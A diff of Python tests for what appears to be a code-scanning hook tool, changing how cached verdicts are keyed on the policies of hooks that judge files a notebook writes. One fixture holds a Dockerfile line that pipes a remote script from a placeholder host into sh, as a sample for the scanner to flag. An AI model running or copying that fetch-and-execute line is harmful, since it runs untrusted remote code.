@@ -445,7 +445,8 @@ def test_a_warm_run_reads_one_bundle_and_a_damaged_bundle_falls_back(
     home = tmp_path / "cache"
     cold = _run(repo, ResultCache.open(home))
     warm_cache = ResultCache.open(home)
-    probes = [warm_cache.probe(CODE, p, p.name, Policy(root=repo)) for p in sorted(repo.glob("*.py"))]
+    also = [spec for spec in registry().specs if spec.hook_id in CODE.cache_with]
+    probes = [warm_cache.probe(CODE, p, p.name, Policy(root=repo), also) for p in sorted(repo.glob("*.py"))]
     bundle = _entry_file(warm_cache, bundle_key(CODE, [p for p in probes if p is not None]))
     assert bundle.is_file()
     assert _run(repo, warm_cache) == cold and len(cold) >= 6
@@ -478,10 +479,12 @@ def test_a_bundle_naming_a_file_outside_the_run_is_refused(cache: ResultCache, t
     assert cache.lookup_bundle(CODE, [probe], registry()) is not None
 
 
-def test_a_file_whose_written_files_other_hooks_judge_is_not_cached(tmp_path: Path) -> None:
+def test_written_files_are_keyed_on_the_hooks_that_judge_them(tmp_path: Path) -> None:
     """A notebook's `%%writefile Dockerfile` is judged by the Dockerfile hook under its own policy
-    section (and `!pip install` by deps under the advisory snapshot): none of that is in the code
-    hook's key, so such a verdict is computed each run, never replayed."""
+    section: the code hook's key holds that section (spec.cache_with), so the verdict is cached
+    and a change of the Dockerfile hook's policy is a new key."""
+    from dataclasses import replace as changed
+
     from hooks._core.runner import Target, scan_targets
     from hooks._core.tail import TailContext
 
@@ -491,11 +494,12 @@ def test_a_file_whose_written_files_other_hooks_judge_is_not_cached(tmp_path: Pa
     source = ["%%writefile Dockerfile\n", "FROM python\n", "RUN curl https://x.example/i.sh | sh\n"]
     notebook = {"cells": [{**cell, "source": source}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
     (repo / "build.ipynb").write_text(json.dumps(notebook))
-    context = TailContext(Policy(root=repo), registry())
+    policy = Policy(root=repo)
     runs = []
-    for _ in range(2):
+    for run_policy, hits in ((policy, 0), (policy, 1), (changed(policy, sections={"dockerfile": {"changed": 1}}), 0)):
         cache = ResultCache.open(tmp_path / "cache")
+        context = TailContext(run_policy, registry())
         found = scan_targets([Target(repo / "build.ipynb", "build.ipynb")], [CODE], context, select=False, cache=cache)
         runs.append(sorted(f.rule_id for f in found.findings))
-        assert cache.stats.hits == 0
-    assert runs[0] == runs[1] and runs[0], "the written Dockerfile's findings come from the Dockerfile hook"
+        assert cache.stats.hits == hits
+    assert runs[0] == runs[1] == runs[2] and runs[0], "the written Dockerfile's findings come from the Dockerfile hook"
